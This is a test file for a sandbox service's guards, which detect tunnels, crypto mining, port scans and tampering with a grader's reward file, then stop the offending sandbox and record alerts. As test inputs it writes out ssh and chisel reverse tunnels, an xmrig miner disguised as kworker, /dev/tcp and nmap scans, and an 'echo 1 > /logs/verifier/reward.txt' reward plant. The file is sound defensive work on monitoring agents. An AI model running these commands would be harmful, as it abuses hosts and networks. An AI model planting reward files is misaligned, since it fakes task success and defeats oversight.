/** Guards of the service's sandboxes: what is seen from outside, what is stopped, and who is told. */

import { afterAll, beforeAll, expect, test } from "bun:test";
import { join } from "node:path";
import { GemEnvironments } from "../../src/api/gem/environments.ts";
import type { Alert } from "../../src/core/alerts.ts";
import { GuardWatch } from "../../src/sandbox/guards/guard-watch.ts";
import { DEFAULT_GUARDS } from "../../src/sandbox/guards/settings.ts";
import type { ManagedSandbox } from "../../src/sandbox/service/managed-sandbox.ts";
import { SandboxService } from "../../src/sandbox/service/sandbox-service.ts";
import { AlertRecorder } from "../../src/store/record-alerts.ts";
import { openStore } from "../../src/store/store.ts";
import { compileProbe, ENVIRONMENT, file, LIMITS, openProvider, type TestProvider, text, until } from "./support.ts";

const environment = { ...ENVIRONMENT, memoryBytes: 128 << 20, pids: 64 };
const told: [string, Alert][] = [];
let provider: TestProvider;
let service: SandboxService;
let sandbox: ManagedSandbox;
beforeAll(async () => {
  provider = await openProvider();
  const capacity = { memoryBytes: 2 ** 34, cpus: 1000, diskBytes: 2 ** 34, count: 24 };
  service = new SandboxService({ provider, capacity, onAlert: (alert, { id }) => told.push([id, alert]) });
});
afterAll(async () => {
  await service?.close();
  await provider?.close();
});

const inFolder = { ...LIMITS, cwd: "/work" };

test("a tunnel is refused, its sandbox stopped, its neighbour left alone", async () => {
  sandbox = await service.create({ environment });
  const neighbour = await service.create({ environment });
  await sandbox.openShell("s");
  expect(text((await sandbox.runInShell("s", "echo hello; sleep 60 & echo", LIMITS)).output)).toContain("hello");
  await expect(sandbox.runInShell("s", "touch ran; ssh -NR 8022:localhost:22 u@h", LIMITS)).rejects.toThrow(
    "was stopped by a guard: ssh -R forwards",
  );
  await until("the sandbox is stopped", 10_000, () => sandbox.state === "stopped");
  expect(sandbox.life.history.at(-1)?.reason).toBe("guard: tunnel");
  expect(told).toMatchObject([[sandbox.id, { kind: "tunnel", action: "stop", turn: null }]]);
  expect(neighbour.state).toBe("running");
  expect(neighbour.guard.alerts).toEqual([]);
  expect(text((await neighbour.exec(["echo", "on"], inFolder)).output)).toBe("on\n");
  // Its owner may look at what it left.
  await service.restart(sandbox.id);
  expect(sandbox.guard.alerts.length).toBe(1);
  expect(text((await sandbox.exec(["ls"], inFolder)).output)).toBe("");
  await service.delete(sandbox.id);
  await service.delete(neighbour.id);
});

test("each way to run something is looked at", async () => {
  const ways: ((sandbox: ManagedSandbox, argv: readonly string[]) => Promise<unknown>)[] = [
    (own, argv) => own.exec(argv, inFolder),
    (own, argv) => own.startCommand({ argv, cwd: "/", timeoutMs: 1000, maxLogBytes: 1000 }),
    (own, argv) => own.openTerminal({ argv, cwd: "/", rows: 24, columns: 80 }),
    (own, argv) => own.openShell("x").then(() => own.runInShell("x", argv.join(" "), LIMITS)),
  ];
  for (const way of ways) {
    const own = await service.create({ environment });
    const miner = ["./xmrig", "-o", "stratum+tcp://pool.test:3333"];
    await expect(way(own, miner)).rejects.toThrow("stopped by a guard");
    expect(own.guard.alerts.map(({ kind }) => kind)).toEqual(["mining"]);
    await service.delete(own.id);
  }
});

test("tests of their owner's may be placed in a sandbox; in one that we grade they are ours", async () => {
  const places = "mkdir -p /tests /logs/verifier; echo 1 > /logs/verifier/reward.txt";
  for (const isGraded of [false, true]) {
    const own = await service.create({ environment, isGraded });
    await own.exec(["sh", "-c", places], inFolder);
    await own.guard.lookAtFiles({ environment, files: [] });
    expect(own.guard.alerts.length > 0).toBe(isGraded);
    await service.delete(own.id);
  }
});

test("processes are seen from outside, whatever hides them inside", async () => {
  await using own = await provider.create(environment);
  await own.upload("/probe", [file("probe", await compileProbe(), 0o755)]);
  const watch = new GuardWatch({
    environment,
    settings: { ...DEFAULT_GUARDS, mining: { ...DEFAULT_GUARDS.mining, windowSeconds: 1, share: 0.1 } },
  });
  await own.run("cp /probe/probe /tmp/kworker; setsid /tmp/kworker burn 30 >/dev/null 2>&1 & disown", LIMITS);
  await until("the process is seen", 20_000, async () => {
    const { processes } = await own.observe();
    return processes.some(({ argv }) => argv.join(" ") === "/tmp/kworker burn 30");
  });
  await until("the load is told", 30_000, async () => {
    watch.observe(await own.observe());
    await Bun.sleep(200);
    return watch.alerts.length > 0;
  });
  expect(watch.alerts).toMatchObject([{ kind: "mining", evidence: expect.stringContaining("/tmp/kworker burn 30") }]);
}, 60_000);

test("a scan through the proxy stops the sandbox, denied as each attempt is", async () => {
  const network = { mode: "allowlist", allow: ["203.0.113.1:80"] } as const;
  const own = await service.create({ environment: { ...environment, network } });
  const attempt =
    "(exec 3<>/dev/tcp/127.0.0.1/3128; printf 'CONNECT 10.9.8.%s:22 HTTP/1.1\\r\\n\\r\\n' $i >&3; head -1 <&3)";
  await own.exec(["bash", "-c", `for i in $(seq 4); do ${attempt}; done`], inFolder);
  expect(own.guard.alerts).toEqual([]);
  const scan = own.exec(["bash", "-c", `for i in $(seq 40); do ${attempt}; done; sleep 20`], inFolder);
  await Promise.race([scan.catch(() => {}), until("it is stopped", 15_000, () => own.state === "stopped")]);
  expect(own.guard.alerts).toMatchObject([
    { kind: "scan", action: "stop", evidence: "tried 16 addresses within 10 s" },
  ]);
  await service.delete(own.id);
}, 30_000);

test("only what this sandbox wrote itself counts as written, wherever links lead", async () => {
  const paths = ["/tests", "/logs/verifier", "/etc/passwd", "/usr/bin/env", "/usr/bin/id"];
  await using own = await provider.create(environment);
  expect(await own.writtenPaths(paths)).toEqual(["/etc/passwd"]); // made for every sandbox
  await own.run("mkdir -p /logs/verifier; ln -s / /tests; rm -f /usr/bin/env", LIMITS);
  const root = own.isolation.startsWith("root");
  const expected = ["/tests", "/logs/verifier", "/etc/passwd", ...(root ? ["/usr/bin/env"] : [])];
  expect(await own.writtenPaths(paths)).toEqual(expected);
  await using snapshot = await own.snapshot();
  await using child = await provider.fork(snapshot);
  expect(await child.writtenPaths(paths)).toEqual([]);
  await child.run("echo 1 > /logs/verifier/reward.txt; chmod 000 /logs", LIMITS);
  expect(await child.writtenPaths(paths)).toEqual(["/logs/verifier"]);
});

test("looking for what was written follows no link and opens nothing", async () => {
  await using own = await provider.create(environment);
  await own.run("rmdir /logs; ln -s /proc/1/root/etc /logs; mkfifo /tests; ln -s /etc /srv/etc", LIMITS);
  expect(
    await own.writtenPaths(["/logs/verifier", "/tests", "/srv/etc/hostname", "/srv/../etc/hosts", "relative"]),
  ).toEqual([
    "/logs/verifier",
    "/tests",
    "/srv/etc/hostname", // by way of a link of the sandbox's own
    "/srv/../etc/hosts",
  ]);
});

test("an environment's episode ends with a guard, ungraded, or tells what was seen", async () => {
  const environments = new GemEnvironments({ service, maxTurns: 9 });
  const planting = await environments.make("tasks/shell/tree");
  await environments.reset(planting, 1);
  const step = await environments.step(planting, "mkdir -p /logs/verifier; echo 1 > /logs/verifier/reward.txt");
  expect(step).toMatchObject({ reward: 0, terminated: false });
  const end = await environments.step(planting, "done");
  expect(end).toMatchObject({ reward: 0, terminated: true, info: { stop_reason: "done" } });
  expect(end.info.alerts).toMatchObject([
    { kind: "protected_write" },
    { kind: "protected_write" },
    { kind: "protected_write" },
  ]);
  const tunnel = await environments.make("tasks/shell/tree");
  await environments.reset(tunnel, 1);
  const stopped = await environments.step(tunnel, "chisel client 203.0.113.9:8000 R:socks");
  expect(stopped).toMatchObject({
    reward: 0,
    terminated: true,
    info: { stop_reason: "guard", alerts: [{ kind: "tunnel" }] },
  });
  await expect(environments.step(tunnel, "ls")).rejects.toThrow("is over");
  for (const id of [planting, tunnel]) await environments.close(id);
});

test("what the service's guards raise outlives the service", async () => {
  const path = join(provider.stateDir, "alerts.db");
  await (await openStore(path)).close();
  {
    await using recorder = new AlertRecorder(path);
    const own = new SandboxService({
      ...{ provider, capacity: service.admission.capacity },
      onAlert: (alert, { id }) => recorder.add({ ...alert, sandbox: id }),
    });
    const made = await own.create({ environment, id: "watched" });
    await expect(made.exec(["nmap", "-sS", "192.0.2.0/24"], inFolder)).rejects.toThrow("stopped by a guard");
    await own.close();
  }
  await using store = await openStore(path, { mode: "read" });
  expect((await store.readAlerts()).alerts).toMatchObject([
    { kind: "scan", sandbox: "watched", action: "stop", runId: null },
  ]);
  expect((await store.readEvents()).map(({ type }) => type)).toEqual(["guard.alert"]);
});
